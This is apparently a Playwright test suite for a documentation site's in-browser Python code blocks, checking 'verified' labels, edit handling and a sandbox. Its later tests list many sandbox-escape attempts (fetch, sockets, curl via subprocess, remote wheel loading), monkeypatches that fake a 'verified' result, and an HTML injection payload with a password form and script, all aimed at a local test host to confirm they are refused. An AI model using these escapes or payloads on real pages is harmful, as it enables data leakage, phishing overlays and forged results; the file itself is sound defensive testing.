"""A block has one output and says only what is true; what its code may not do, it cannot do."""

import ast
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest
from playwright.sync_api import Browser, Locator, Page, expect

from tests.website.live_tab import MAP_READ, comes, edit, go, navigate, run, state
from website.audit.browser import LAPTOP, url, visit
from website.audit.static_host import serving

ONE = "about/verified/"  # a page with one block
SIX = "learn/one-side-or-two/"  # a page with several


@pytest.fixture
def block(tab: Page) -> Locator:
    """The only block of its page."""
    go(tab, ONE)
    return tab.locator("live-block")


def test_what_is_the_same_is_marked_and_not_printed_twice(tab: Page) -> None:
    tab.goto(url(ONE))  # with a Python that has run nothing yet
    block = tab.locator("live-block")
    run(block)
    expect(block.locator(".live-note")).to_have_text(re.compile(r"^Same as verified, here, in [\d.]+ s$"))
    expect(block.locator(".live-out")).to_be_hidden()


def test_an_edit_is_never_called_the_same_or_verified(block: Locator) -> None:
    for code in ("1 / 3.0", "x = 1", "print(1 / 3)", "1 / 0", "pass"):
        edit(block, code)
        run(block)
        assert state(block) in ("edited", "error"), code
        assert "erified" not in block.locator(".live-bar").inner_text(), code


def test_the_pages_output_is_folded_away_from_the_first_edit_until_the_code_is_back(tab: Page) -> None:
    navigate(tab, SIX)
    block = tab.locator("live-block:has(.language-text)").first
    given = block.locator(".language-text")
    code = str(block.evaluate("block => block.code"))
    edit(block, code + "\nprint('mine')")
    expect(given).to_be_hidden()
    expect(block.locator(".live-given summary")).to_have_text("What the page’s code printed")
    assert "mine" in run(block)
    assert block.locator(".live-out").get_attribute("data-of") == "Output of your version"
    block.locator(".live-given summary").click()
    expect(given).to_be_visible()
    block.get_by_role("button", name="Reset").click()
    expect(given).to_be_visible()
    expect(block.locator(".live-out")).to_be_hidden()
    expect(block.locator(".live-given")).to_be_hidden()


def test_nothing_below_an_edit_is_called_the_same(tab: Page) -> None:
    go(tab, SIX)
    first, second, *_ = tab.locator("live-block").all()
    edit(first, str(first.evaluate("block => block.code")) + "\nunused = 1")
    run(second)
    assert state(second) == "edited"
    expect(second.locator(".live-note")).to_contain_text("with an edited block above")


CHANGED = "A block above has changed since: run it again"


def test_what_was_said_of_a_block_is_taken_back_when_one_above_is_another(tab: Page) -> None:
    go(tab, SIX)
    first, second, third, *_ = tab.locator("live-block").all()
    code = str(first.evaluate("block => block.code"))
    run(third)
    edit(first, code + "\nunused = 1")
    for block in (second, third):
        expect(block.locator(".live-note")).to_have_text(CHANGED)
        assert state(block) == "edited"
    edit(first, code)  # typed back, so what was said holds again
    for block in (second, third):
        assert state(block) == "same"
    edit(first, code + "\nunused = 1")
    run(third)
    expect(third.locator(".live-note")).to_contain_text("with an edited block above")
    first.get_by_role("button", name="Reset").click()
    expect(third.locator(".live-note")).to_have_text(CHANGED)
    run(third)
    assert state(third) == "same"


@pytest.mark.parametrize("how", ["reset", "typed back", "other"])
def test_what_is_written_over_while_it_runs_is_not_said_of_what_stands_there_then(block: Locator, how: str) -> None:
    own = str(block.evaluate("block => block.block.code"))
    edit(block, "1")
    run(block)  # Python is there
    stop = block.get_by_role("button", name="Stop")
    for seconds in (5, 20, 60):  # until the change comes in time, on a busy machine too
        edit(block, f"import time\nend = time.time() + {seconds}\nwhile time.time() < end: pass\nprint('slow')")
        block.get_by_role("button", name="Run", exact=True).click()
        expect(block.locator(".live-note")).to_have_text(re.compile("^Running"))
        if how == "reset":
            block.get_by_role("button", name="Reset").click()
        else:
            edit(block, own if how == "typed back" else "print('other')")
        if in_time := stop.is_visible():
            break
    assert in_time
    expect(stop).to_be_hidden(timeout=120_000)
    if how == "other":
        expect(block.locator(".live-note")).to_have_text("Changed while it ran: run it again")
        assert block.locator(".live-out").get_attribute("data-of") == "Output of what stood here before"
    else:
        expect(block.locator(".live-note")).to_have_text("")
        expect(block.locator(".live-out")).to_be_hidden()


def test_who_is_told_to_wait_is_told_when_it_is_over(tab: Page) -> None:
    go(tab, SIX)
    first, second, *_ = tab.locator("live-block").all()
    run(first)
    before = first.locator(".live-note").inner_text()
    edit(second, "while True: pass")
    second.get_by_role("button", name="Run", exact=True).click()
    expect(second.locator(".live-note")).to_have_text(re.compile("^Running"))
    first.get_by_role("button", name="Run", exact=True).click()
    expect(first.locator(".live-note")).to_have_text("Another block is running: wait for it, or stop it")
    second.get_by_role("button", name="Stop").click()
    expect(first.locator(".live-note")).to_have_text(before)


def test_an_error_below_the_button_is_not_said_to_be_above_it(tab: Page) -> None:
    go(tab, SIX)
    blocks = tab.locator("live-block").all()
    edit(blocks[2], "1 / 0")
    tab.get_by_role("button", name="Run all").click()
    told = f"Block 3 of {len(blocks)} ended in an error, so those below it were not run"
    expect(blocks[0].locator(".live-note")).to_have_text(told, timeout=120_000)  # Python may have to start
    assert [state(block) for block in blocks[1:]] == ["same", "error"] + [None] * (len(blocks) - 3)


def test_the_pages_code_is_not_blamed_for_names_that_a_reader_has_changed_below_it(tab: Page) -> None:
    go(tab, SIX)
    _, second, third, *_ = tab.locator("live-block").all()
    run(second)
    edit(third, "cube = one_side = None")
    run(third)
    run(second)
    assert state(second) == "error"
    expect(second.locator(".live-note")).to_contain_text("code of yours ran before: reload the page for fresh names")
    tab.reload()
    run(tab.locator("live-block").nth(1))
    assert state(tab.locator("live-block").nth(1)) == "same"


def test_on_paper_a_readers_version_says_so(block: Locator) -> None:
    edit(block, "print('mine')")
    label = "block => getComputedStyle(block.querySelector('.cm-editor'), '::before').content"
    assert block.evaluate(label) == "none"
    block.page.emulate_media(media="print")
    assert block.evaluate(label) == '"The reader’s version:"'
    block.page.emulate_media(media="screen")


@pytest.mark.parametrize(
    "code", ["print('a\\n', end='')", "print('a', end='\\n')", "import sys\n_ = sys.stdout.write('a\\n')"]
)
def test_a_line_that_was_ended_is_not_ended_twice(block: Locator, code: str) -> None:
    edit(block, code + "\nprint('b')")
    assert run(block) == "a\nb\n"


def test_what_runs_above_is_said_and_stopped_beside_the_button_that_was_pressed(tab: Page) -> None:
    go(tab, SIX)
    first, second, *_ = tab.locator("live-block").all()
    edit(first, "while True: pass")
    second.get_by_role("button", name="Run", exact=True).click()
    expect(second.locator(".live-note")).to_have_text(
        re.compile(r"^Running block 1 of 2, [1-9]\d* s …$"), timeout=60_000
    )
    assert first.get_by_role("button", name="Stop").is_hidden()
    second.get_by_role("button", name="Stop").click()
    expect(second.locator(".live-note")).to_have_text(re.compile("^Stopped"))


@pytest.mark.parametrize(
    ("code", "hint"),
    [
        ("import torch", "PyTorch does not run in a browser"),
        ("from scipy import stats", "What needs scipy runs on your machine"),
        ("import matplotlib.pyplot as plt", "report.plot()"),
        ("!pip install numpy", "are for notebooks"),
        ("x = 1\n%matplotlib inline", "are for notebooks"),
        ("import threading\nthreading.Thread(target=print).start()", "gives Python one thread"),
        (
            "from concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().submit(print)",
            "gives Python one thread",
        ),
        ("import subprocess\nsubprocess.run(['ls'])", "no other process"),
        ("from multiprocessing import Pool\nPool(2)", "no other process"),
    ],
)
def test_what_a_browser_cannot_do_says_what_can_be_done(block: Locator, code: str, hint: str) -> None:
    edit(block, code)
    run(block)
    assert state(block) == "error"
    expect(block.locator(".live-hint")).to_contain_text(hint)
    for link in block.locator(".live-hint a").all():
        assert block.page.evaluate("to => fetch(to).then((found) => found.status)", link.get_attribute("href")) == 200


def test_a_keyboard_is_not_waited_for(block: Locator) -> None:
    for code in ("name = input('name')", "import sys\nsys.stdin.read()", "import sys\nfor line in sys.stdin: pass"):
        edit(block, code)
        assert "no keyboard here" in run(block), code


def test_help_is_shown_and_exit_ends_a_block_without_an_error(block: Locator) -> None:
    edit(block, "import math\nhelp(math.sqrt)")
    assert "square root" in run(block)
    for code in ("print('a')\nexit()\nprint('b')", "import sys\nprint('a')\nsys.exit(0)"):
        edit(block, code)
        assert (run(block), state(block)) == ("a\n", "edited"), code
    edit(block, "import sys\nsys.exit('too large')")
    assert "too large" in run(block)
    assert state(block) == "error"


def test_a_value_that_only_a_prompt_would_show_is_spoken_of(tab: Page) -> None:
    go(tab, "labs/decoder/")  # its blocks are scripts; a block that is a prompt shows the value
    block = tab.locator("live-block").first
    note = block.locator(".live-note")
    edit(block, "import numpy as np\nnp.arange(3)")
    run(block)
    expect(note).to_have_text(re.compile(r"print\(…\) shows the value of the last line"))
    for code in ("x = 1", "print()"):
        edit(block, code)
        run(block)
        expect(note).to_have_text(re.compile("^Your version: done, nothing to print"))


# What code in a block may try: to reach another host, to run text as a script, to write where other pages read.
TRIES = {
    "fetch": "await js.fetch('HOST/x')",
    "fetch of no answer": "await js.fetch('HOST/x', js.Object.fromEntries(to_js([['mode', 'no-cors']])))",
    "XMLHttpRequest": "r = js.XMLHttpRequest.new()\n    r.open('GET', 'HOST/x', False)\n    r.send()",
    "import": "await run_js('import(\"HOST/x.js\")')",
    "importScripts": "js.importScripts('HOST/x.js')",
    "beacon": "assert js.navigator.sendBeacon('HOST/x')",
    "eval": "js.eval('1 + 1')",
    "run_js": "run_js('1 + 1')",
    "Function": "js.Function.new('return 1')()",
    "caches": "await js.caches.open('x')",
    "indexedDB": "js.indexedDB.open('x')",
    "Worker": "js.Worker.new('worker.js')",
}
TRY = """import asyncio, js
from pyodide.code import run_js
from pyodide.ffi import to_js
async def one():
    {}
outcome = []
task = asyncio.ensure_future(one())
task.add_done_callback(lambda task: outcome.append("refused" if task.exception() else "got through"))
"""


class Elsewhere(BaseHTTPRequestHandler):
    """Another host, which answers whatever it is asked, and remembers it."""

    asked: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def careless(chromium: Browser) -> Iterator[Page]:
    """Somebody who runs what others sent."""
    with visit(chromium, viewport=LAPTOP) as visitor:
        yield visitor.open()


def test_the_other_host_can_be_reached_by_who_has_no_policy(chromium: Browser, elsewhere: str) -> None:
    context = chromium.new_context()
    page = context.new_page()
    page.goto(f"{elsewhere}/page")
    assert page.evaluate("fetch('/hello').then((found) => found.status)") == 200
    assert Elsewhere.asked[:1] == ["/page"]
    Elsewhere.asked.clear()
    context.close()


@pytest.mark.parametrize("name", TRIES)
def test_code_in_a_block_reaches_no_other_host_runs_no_text_and_writes_no_cache(
    careless: Page, elsewhere: str, name: str
) -> None:
    go(careless, SIX)
    first, second, *_ = careless.locator("live-block").all()
    edit(first, TRY.format(TRIES[name].replace("HOST", elsewhere)))
    run(first)
    assert state(first) == "edited"
    edit(second, "print(outcome)")  # again, until what it began has come to an end
    assert comes(lambda: run(second), lambda told: told != "[]\n") == "['refused']\n"
    assert not [path for path in Elsewhere.asked if path.startswith("/x")]


def test_a_socket_is_not_opened(careless: Page, elsewhere: str) -> None:
    Elsewhere.asked.clear()
    go(careless, ONE)
    block = careless.locator("live-block")
    edit(block, f"import js\njs.WebSocket.new('ws{elsewhere.removeprefix('http')}/x')")
    run(block)
    careless.wait_for_timeout(300)
    assert not Elsewhere.asked


# More ways out, tried all at once. Those that do not raise have come to an end when the host is asked what it heard.
ESCAPES = {
    "pyfetch": "import pyodide.http\n    await pyodide.http.pyfetch('HOST/x')",
    "open_url": "import pyodide.http\n    pyodide.http.open_url('HOST/x')",
    "urllib": "import urllib.request\n    urllib.request.urlopen('HOST/x')",
    "http.client": "import http.client\n    http.client.HTTPConnection('NAME').request('GET', '/x')",
    "socket": "import socket\n    socket.create_connection(('127.0.0.1', PORT)).send(b'GET /x HTTP/1.0\\r\\n\\r\\n')",
    "a wheel from elsewhere": "import pyodide_js\n    await pyodide_js.loadPackage('HOST/x-1.0-py3-none-any.whl')",
    "EventSource": "js.EventSource.new('HOST/x')",
    "WebSocketStream": "await js.WebSocketStream.new('ws://NAME/x').opened",
    "WebTransport": "await js.WebTransport.new('https://NAME/x').ready",
    "FontFace": "await js.FontFace.new('x', 'url(HOST/x.woff2)').load()",
    "fetch kept alive": "await js.fetch('HOST/x', js.Object.fromEntries(to_js([['keepalive', True]])))",
    "fetch of data": "await js.fetch('data:text/plain,x')",
    "script in a blob": "js.importScripts(js.URL.createObjectURL(js.Blob.new(to_js(['1 + 1']))))",
    "text for a timer": "js.setTimeout('self.spoiled = 1', 0)\n    await asyncio.sleep(0.1)\n    js.spoiled",
    "a function's constructor": "js.fetch.constructor('return 1')()",
    "an async function's constructor": "js.self.onmessage.constructor('return 1')()",
    "files of the origin": "await js.navigator.storage.getDirectory()",
    "a service worker": "await js.navigator.serviceWorker.register('offline.js')",
    "old files": "js.webkitRequestFileSystem(0, 1024)",
    "locks": "await js.navigator.locks.request('x', print)",
    "a channel": "js.BroadcastChannel.new('x')",
    "cookies": "await js.cookieStore.set('x', '1')",
    "deleted and asked again": "js.Object.getPrototypeOf(js.self).caches.open('x')",
}


# A third round: no request may come of these, whatever they give.
FURTHER = {
    "RTCPeerConnection": 'c = js.RTCPeerConnection.new(js.JSON.parse(\'{"iceServers": [{"urls": "stun:NAME"}]}\'))',
    "data module": "await run_js('import(\"data:text/javascript,1\")')",
    "a module in a blob": "await run_js('import(URL.createObjectURL(new Blob([\"1\"])))')",
    "eval of a request": "js.eval('fetch(\"HOST/x\")')",
    "a JavaScript module of Python": "import pyodide_js\n    pyodide_js.registerJsModule('m', js)\n    import m\n"
    "    await m.fetch('HOST/x')",
    "a Request": "await js.fetch(js.Request.new('HOST/x'))",
    "an address without a scheme": "await js.fetch('//NAME/x')",
    "the same with a name and a word": "await js.fetch('http://a:b@NAME/x')",
    "backslashes": "await js.fetch('http:\\\\\\\\NAME/x')",
    "another port of this host": "await js.fetch('http://localhost:PORT/x')",
    "text, at once": "r = js.XMLHttpRequest.new()\n    r.open('POST', 'HOST/x', False)\n    r.send('x')",
    "an old request's address after the fact": "r = js.XMLHttpRequest.new()\n    r.open('GET', '/', True)\n"
    "    r.open('GET', 'HOST/x', False)\n    r.send()",
    "requests": "import requests\n    requests.get('HOST/x')",
    "micropip": "import micropip\n    await micropip.install('HOST/x-1.0-py3-none-any.whl')",
    "urllib3": "import urllib3\n    urllib3.request('GET', 'HOST/x')",
    "asyncio": "await asyncio.open_connection('127.0.0.1', PORT)",
    "a mail server": "import smtplib\n    smtplib.SMTP('127.0.0.1', PORT)",
    "ftplib": "import ftplib\n    ftplib.FTP().connect('127.0.0.1', PORT)",
    "a web browser": "import webbrowser\n    assert webbrowser.open('HOST/x')",
    "a process": "import subprocess\n    subprocess.run(['curl', 'HOST/x'], check=True)",
    "a socket with a protocol": "js.WebSocket.new('wss://NAME/x', 'x')",
    "a picture": "await js.createImageBitmap(await (await js.fetch('HOST/x.png')).blob())",
    "WebAssembly from elsewhere": "await js.WebAssembly.compileStreaming(js.fetch('HOST/x.wasm'))",
    "a window": "js.open('HOST/x')",
    "another place": "js.self.location.assign('HOST/x')",
    "the place set": "js.self.location.href = 'HOST/x'\n    assert 'HOST' in js.location.href",
    "a note": "await js.Notification.requestPermission()",
    "a report": "js.ReportingObserver.new(print)\n    await js.fetch('HOST/x')",
    "push": "await js.registration.pushManager.subscribe()",
    "an element": "js.document.createElement('img').src = 'HOST/x'",
    "background fetch": "await js.registration.backgroundFetch.fetch('x', 'HOST/x')",
    "a package by name": "import pyodide_js\n    pyodide_js.loadPackage.messageCallback = print\n"
    "    await pyodide_js.unpackArchive(await (await js.fetch('HOST/x')).arrayBuffer(), 'zip')",
}


@pytest.mark.parametrize("tries", [ESCAPES, FURTHER], ids=["second round", "third round"])
def test_no_other_way_out_is_found(careless: Page, elsewhere: str, tries: dict[str, str]) -> None:
    Elsewhere.asked.clear()
    name = elsewhere.removeprefix("http://")
    there = {"HOST": elsewhere, "NAME": name, "PORT": name.partition(":")[2]}
    codes = [re.sub("HOST|NAME|PORT", lambda word: there[word[0]], code) for code in tries.values()]
    tried = [f"async def try_{k}():\n    {code}" for k, code in enumerate(codes)]
    begun = f"""import asyncio, js
from pyodide.code import run_js
from pyodide.ffi import to_js
outcome = {{}}
async def tried(k, one):
    try:
        await asyncio.wait_for(one(), 3)
    except BaseException as error:
        outcome[k] = "refused"
    else:
        outcome[k] = "got through"
{chr(10).join(tried)}
tasks = [asyncio.ensure_future(tried(k, globals()[f"try_{{k}}"])) for k in range({len(tried)})]
"""
    go(careless, SIX)
    first, second, *_ = careless.locator("live-block").all()
    edit(first, begun)
    run(first)
    assert state(first) == "edited"
    edit(second, "print([outcome.get(k) for k in range(len(tasks))])")  # again, until all have come to an end
    outcomes = comes(lambda: ast.literal_eval(run(second)), lambda told: None not in told)
    assert not Elsewhere.asked
    silent = {
        "EventSource",
        "a wheel from elsewhere",
        "a socket with a protocol",
    }  # which raise nothing: the host was not asked, that is enough
    assert not [one for one, told in zip(tries, outcomes, strict=True) if told != "refused" and one not in silent]


def test_a_forged_answer_brings_no_link_to_elsewhere_and_no_word_of_the_pages(careless: Page) -> None:
    go(careless, ONE)
    block = careless.locator("live-block")
    for at in ("https://other.example/", "//other.example/", "javascript:x()", "data:text/html,x", "/elsewhere/"):
        forged = f"sys._getframe(2).f_globals['_FRAMEWORKS']['away'] = ('Away', {at!r})"
        edit(block, f"import sys\n{forged}\nimport away")
        run(block)
        expect(block.locator(".live-hint")).to_contain_text("Away does not run in a browser")
        assert block.locator(".live-out a").count() == 0, at
        assert "erified" not in block.locator(".live-bar").inner_text()


HOSTILE = '''class R:
    def _repr_html_(self):
        return """<p class="gradlab-note">words</p><meta http-equiv=refresh content="0;url=https://other.example">
          <form action="https://other.example"><input type=password></form><iframe src="https://other.example"></iframe>
          <style>body { display: none }</style><p style="position: fixed; inset: 0" onclick="x()">over</p>
          <a href="https://other.example">away</a><img src=x onerror="x()"><svg><use href="#x"/>
          <script>x()</script></svg>
          <svg><foreignObject><form></form></foreignObject><a xlink:href="https://other.example"><text>x</text></a>
          <animate attributeName="href" values="https://other.example"/><set attributeName="x"/></svg>
          <math><mtext><style>*{}</style></mtext></math><dialog open>over</dialog><div popover id="__search">x</div>
          <template><img src=x></template><object data="https://other.example"></object><base href="//other.example">
          <live-block data-block="{}"></live-block><div class="md-overlay live-bar">over</div>
          <p is="x-y" slot="x">x</p><svg width="99999" height="99999"><rect fill="url(https://other.example/x)"/></svg>
          <textarea><img src=x></textarea><input autofocus>
          <a href="../../x" target="_top" ping="//other.example">in</a>"""
R.__module__ = "gradlab.report"
R()'''


BAD = (
    "meta, form, input, iframe, style, img, script, use, object, base, dialog, template, textarea, math, animate, "
    "set, live-block, foreignObject, [style], [onclick], [popover], [is], [slot], [target], [ping], [fill^=url], "
    "[id]:not([id^=gradlab-]), [class*=md-], [class*=live-bar], a[href^=http], a[*|href^=http]"
)


def test_a_file_of_another_host_is_not_fetched_though_python_ends_over_it(careless: Page, elsewhere: str) -> None:
    Elsewhere.asked.clear()
    go(careless, ONE)
    block = careless.locator("live-block")
    lazy = f"pyodide_js.FS.createLazyFile('/', 'x', '{elsewhere}/x', True, False)"
    edit(block, f"import pyodide_js\n{lazy}\nopen('/x').read()")
    run(block)
    assert state(block) in ("error", "failed")
    assert not Elsewhere.asked


# Code that wants the page's own code to pass for verified, though it prints something else from now on.
SPOOFS = {
    "the comparison": "import equality\nequality.same = lambda *words: True",
    "a part of the comparison": "import equality\nequality._as_written = lambda w, g: (w, w)",
    "the comparison of the block": "import live\nlive.same = lambda *words: True",
    "the block itself": "import live, json\nold = live.run\n"
    "live.run = lambda *words: json.dumps(json.loads(old(*words)) | {'same': True})",
    "what the block answers": "import json\nold = json.dumps\n"
    "json.dumps = lambda x, **more: old(x | {'same': True} if 'same' in x else x, **more)",
    "every module": "import sys\nfor module in list(sys.modules.values()):\n"
    "    if hasattr(module, 'same'):\n        module.same = lambda *words: True",
    "the parser of answers": "import js\nold = js.JSON.parse\n"
    "js.JSON.parse = lambda text, *more: (lambda x: (setattr(x, 'same', True), x)[1])(old(text))",
    "the way out": "import js\nold = js.postMessage\n"
    "js.postMessage = lambda x: old(js.Object.assign(x, js.JSON.parse('{\"same\": true}')))",
    "an answer of its own, later": "import js\njs.setInterval(lambda: js.postMessage(js.JSON.parse("
    '\'{"done": true, "ok": true, "same": true, "text": "", "time": 0}\')), 1)',
}


@pytest.mark.parametrize("name", SPOOFS)
def test_what_differs_never_passes_for_verified(careless: Page, name: str) -> None:
    go(careless, SIX)
    first, second, *_ = careless.locator("live-block").all()
    edit(
        first, SPOOFS[name] + "\nimport builtins\nsay = print\nbuiltins.print = lambda *words, **more: say('FAILED')"
    )
    run(first)
    run(second)
    assert state(second) != "same"
    first.get_by_role("button", name="Reset").click()
    careless.reload()


# The frames of Python lead from a block to what runs and compares it. No way is known to keep them from it.
FRAMES = """import sys
frame = sys._getframe()
while frame:
    if "same" in frame.f_globals:
        frame.f_globals["same"] = lambda *words: True
    frame = frame.f_back
"""


def test_once_somebodys_code_has_run_nothing_is_called_verified_until_python_starts_anew(chromium: Browser) -> None:
    with visit(chromium, viewport=LAPTOP) as visitor:
        page = visitor.open()
        go(page, SIX)
        last = page.locator("live-block").last
        edit(last, FRAMES + "import builtins\nsay = print\nbuiltins.print = lambda *words: say('FAILED')")
        run(last)
        go(page, ONE)
        block = page.locator("live-block")
        run(block)
        assert state(block) == "same", "these frames lead nowhere any more: is what compares out of reach now?"
        assert "erified" not in block.locator(".live-bar").inner_text()
        page.goto(url(ONE))
        run(block)
        expect(block.locator(".live-note")).to_have_text(re.compile("^Same as verified"))


def test_the_html_of_a_result_stays_in_its_box(careless: Page) -> None:
    go(careless, ONE)
    block = careless.locator("live-block")
    edit(block, HOSTILE)
    run(block)
    out = block.locator(".live-out")
    assert out.locator(".live-report p").count() == 3
    assert out.locator(BAD).count() == 0
    inside = out.bounding_box()
    assert inside is not None
    assert inside["height"] < 600, "it covers the page"
    assert block.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert block.page.url == url(ONE)
    assert block.page.locator("body").is_visible()


def test_pages_follow_each_other_in_one_document_wherever_the_site_is_served(chromium: Browser, site: Path) -> None:
    with serving(site, "/some/clone/") as origin:
        context = chromium.new_context()
        page = context.new_page()
        page.goto(origin + SIX)
        run(page.locator("live-block").first)
        page.evaluate(MAP_READ)
        page.evaluate("window.stays = true")
        page.locator(".md-footer__link--next").click()
        page.wait_for_url(lambda address: not address.endswith(SIX))
        block = page.locator("article:not(:has(h1#one-side-or-two)) live-block").first
        block.get_by_role("button", name="Run", exact=True).wait_for()
        assert page.evaluate("window.stays"), "the page was loaded anew"
        run(block)
        assert state(block) == "same"
        assert len([one for one in page.workers if one.url.startswith("blob:")]) == 1
        context.close()
